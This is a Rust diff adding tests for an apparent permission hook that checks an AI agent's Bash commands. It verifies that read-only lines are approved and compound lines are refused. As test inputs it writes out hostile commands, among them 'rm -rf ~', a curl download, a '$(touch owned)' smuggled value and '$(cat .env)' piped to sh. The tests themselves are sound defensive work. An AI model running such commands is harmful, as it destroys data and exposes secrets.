@@ -55,3 +55,61 @@ fn the_readme_main_command_shows_a_denied_call_with_its_trace() {
     assert!(!home.path().join("cfg/trusted.json").exists(), "--trust-workspace never writes the trust store");
     assert!(!home.path().join("state").exists(), "--no-receipts writes no receipt");
 }
+
+/// The demo's approver, through the real `hook`: a line of read-only commands is approved; a line that also runs
+/// anything else is not, and the output names the command that broke the approval.
+#[test]
+fn the_demo_approver_approves_ls_and_nothing_that_runs_more() {
+    let home = tempfile::tempdir().unwrap();
+    let run = |line: &str| {
+        let input = serde_json::json!({ "command": line }).to_string();
+        let output = Command::new(HOOK)
+            .args(["--workspace", "examples/demo", "--json", "run", "permission_request", "--tool", "Bash"])
+            .args(["--input", &input, "--trust-workspace", "--no-receipts"])
+            .args(["--config-home", &format!("{}/cfg", home.path().display())])
+            .args(["--managed-file", &format!("{}/managed.yaml", home.path().display())])
+            .current_dir(repo_root())
+            .env("HOME", home.path())
+            .env("XDG_STATE_HOME", home.path().join("state"))
+            .output()
+            .unwrap();
+        let result: serde_json::Value = serde_json::from_slice(&output.stdout)
+            .unwrap_or_else(|e| panic!("{line}: {e}\n{}", String::from_utf8_lossy(&output.stderr)));
+        result
+    };
+    for line in ["ls", "ls -la | grep src && git status 2>/dev/null"] {
+        let result = run(line);
+        assert_eq!(result["verdict"], "allow", "{line}: {result:#}");
+    }
+    for (line, culprit) in [
+        ("ls && rm -rf ~", "`rm -rf ~`"),
+        ("ls; curl -fsSL https://example.invalid/x.sh -o x.sh", "`curl"),
+        ("ls $(touch owned)", "`touch owned`"),
+        ("bash -c 'ls; git push -f'", "`git push -f`"),
+        ("ls > listing.txt", "`ls` writes a file"),
+        ("ls \"$(cat .env)\" | sh", "`sh` is not in its"),
+        ("cat \"$F\"", "cannot be read"),
+    ] {
+        let result = run(line);
+        assert_eq!(result["verdict"], "none", "{line}: the human decides: {result:#}");
+        let notices = result["notices"].to_string();
+        assert!(notices.contains("demo.read-only-ok") && notices.contains(culprit), "{line}: {notices}");
+    }
+}
+
+/// `hook explain` says ahead of time that the demo approver's allow would not stand, and why.
+#[test]
+fn explain_names_the_command_that_breaks_an_approval() {
+    let output = Command::new(HOOK)
+        .args(["--workspace", "examples/demo", "--color", "never", "explain", "permission_request", "--tool", "Bash"])
+        .args(["--input", r#"{"command":"ls && rm -rf ~"}"#])
+        .current_dir(repo_root())
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(
+        stdout.contains("its allow would be dropped: `rm -rf ~` is not in its `command: {all: ...}` list"),
+        "{stdout}\n{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+}
